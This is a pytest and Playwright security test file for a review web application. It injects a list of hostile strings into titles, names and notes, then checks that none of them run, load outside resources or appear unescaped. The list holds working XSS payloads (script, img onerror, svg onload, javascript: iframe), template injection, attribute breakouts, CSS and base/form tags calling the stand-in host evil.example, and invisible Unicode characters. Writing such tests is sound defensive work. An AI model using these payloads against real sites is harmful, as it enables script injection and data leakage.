"""A document full of attacks is text on the desk's pages, and nothing else."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page
from tests.reviews.conftest import Told, run_of

from crossclaim_schemas import Entity, EntityMention, Mention, make_id, mention_id

from .conftest import Server, field, seen_of, start_here, write_run

pytestmark = pytest.mark.slow

ATTACKS = (
    "<script>window.owned = 1</script>",
    '<img src=x onerror="window.owned = 1">',
    "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x dur=1s></svg>",
    "<style>*{background:url(http://evil.example/leak)}</style>",
    "</textarea></title><iframe src=javascript:window.owned=1></iframe>",
    "{{ 7 * 7 }}{% raw %}",
    "\"' onfocus=window.owned=1 autofocus x='",
    "<base href=http://evil.example/><form action=http://evil.example/ id=decide>",
    "\u202eevil\u2066txt\u200b\U000e0041",
)
HOSTILE = " ".join(ATTACKS)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    desk = start_here(write_hostile_run(tmp_path_factory.mktemp("hostile") / "<b>run"))
    yield desk
    desk.stop()


def write_hostile_run(out: Path) -> Path:
    """Attacks in titles, uris, quotes, readings, values, names of entities, and explanations."""
    told = Told("<script>.txt", HOSTILE, "was built", "in 1891", before=HOSTILE)
    run = run_of(told, told.but(uri='"><b>.txt', object=f"in 1912 {ATTACKS[1]}"))
    documents = [document.model_copy(update={"title": HOSTILE, "published": "<i>"}) for document in run.documents]
    claims, mentions = [], []
    for claim in run.claims:
        end = claim.start + len(HOSTILE)
        mention = Mention(
            id=mention_id(claim.doc_id, claim.start, end), start=claim.start, end=end, text=HOSTILE, kind="name", label="ORG", name=HOSTILE
        )  # fmt: skip
        claims.append(claim.model_copy(update={"mentions": (mention,)}))
        mentions.append(
            EntityMention(id=mention.id, doc_id=claim.doc_id, start=claim.start, end=end, text=HOSTILE, kind="name")
        )
    entity = Entity(id=make_id("e", "ORG", HOSTILE), name=HOSTILE, label="ORG", mentions=tuple(mentions))
    (relation,) = run.relations
    differences = ({"slot": HOSTILE, "value_a": HOSTILE, "value_b": HOSTILE},)
    changed = relation.model_dump() | {"explanation": HOSTILE, "reason": HOSTILE, "differences": differences}
    return write_run(out, documents, claims, [entity], [type(relation).model_validate(changed)])


def test_attacks_run_and_load_nothing(server: Server, page: Page) -> None:
    asked: list[str] = []
    refused: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append("dialog"))
    page.on("console", lambda message: refused.append(message.text))
    page.goto(server.link)
    for path in ("/?state=all", "/list?state=all", "/names", "/history", "/figures"):
        page.goto(server.address + path)
        for key in ("e", "n"):
            page.keyboard.press(key)
            page.keyboard.press("Escape")
        assert page.evaluate("window.owned === undefined"), path
    assert {url for url in asked if not url.startswith(server.address)} == set()
    assert refused == [], "nothing had to be refused: nothing was there"


@pytest.mark.parametrize("path", ["/?state=all", "/list?state=all", "/names", "/history", "/figures"])
def test_attacks_are_escaped_and_hidden_characters_shown(server: Server, path: str) -> None:
    if not server.reviews:
        page = server.get("/").text
        server.post("/names", name_a=HOSTILE, name_b="x", action="same", page="/names")
        server.post("/decide", action="edit", note=HOSTILE, reason=ATTACKS[0], finding=field(page, "finding"), seen=seen_of(page))  # fmt: skip
        server.decide("accept")
    text = server.get(path).text
    for attack in ("<script>w", "<img", "<svg onload", "<style>", "<iframe", "<base", "onfocus=window.owned=1 autofocus x='\"", "<b>run", '"><b>.txt', "<i>"):  # fmt: skip
        assert attack not in text, attack
    assert not any(character in text for character in "\u202e\u2066\u200b\U000e0041")


def test_attacks_come_through_the_log_as_they_were(server: Server) -> None:
    lines = (server.folder / "reviews.jsonl").read_text(encoding="utf-8").splitlines()
    assert any(ATTACKS[0] in json.loads(line)["after"]["note"] for line in lines)
